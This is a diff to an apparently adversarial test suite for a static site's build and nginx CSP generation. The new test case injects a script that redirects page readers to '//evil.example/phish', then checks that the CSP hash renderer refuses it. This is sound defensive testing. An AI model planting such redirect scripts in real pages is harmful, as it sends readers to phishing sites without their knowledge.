@@ -6,12 +6,15 @@ attacking session after the fix of issue 11; each fails on the code it was writt
 
 from __future__ import annotations
 
+import importlib.util
 from pathlib import Path
 
+import pytest
 from bs4 import BeautifulSoup
 
 from tests.adversarial.harness import Corpus
 from tests.editing import NOTA, Project, Spot
+from tests.site_build import ROOT
 
 CASES = Corpus()
 
@@ -187,6 +190,30 @@ def _(project: Project):
                     if link.get_text() == "tijdlijn" and "tijdlijn" in link.get("href", ""):
                         target = (page.parent / link["href"].split("#")[0]).resolve()
                         assert (target / "index.html").is_file() or target.is_file(), (page, link["href"])
+    return check
+
+
+# --- An injected script that the regenerated CSP allows ------------------------------------------------------------
+
+def nginx_renderer():
+    spec = importlib.util.spec_from_file_location("render_nginx_conf", ROOT / "scripts" / "render_nginx_conf.py")
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+@CASES.handled("page-script-in-the-shape-of-mikes-redirect", builds=BOTH)
+def _(project: Project):
+    # A page copies mike's redirect script with a protocol-relative "path": it has a known shape, so `make
+    # nginx-conf` hashes it and the CSP lets it send every reader of the page to another host.
+    project.append(PAGE, '\n<script>\n    window.location.replace(\n      "//evil.example/phish" + '
+                   'window.location.search + window.location.hash\n    );\n  </script>\n', at="evil.example")
+
+    def check(sites: dict[str, Path]) -> None:
+        renderer = nginx_renderer()
+        for site in sites.values():
+            with pytest.raises(SystemExit, match=r"evil\.example"):
+                renderer.script_hashes([site])
     return check
 
 
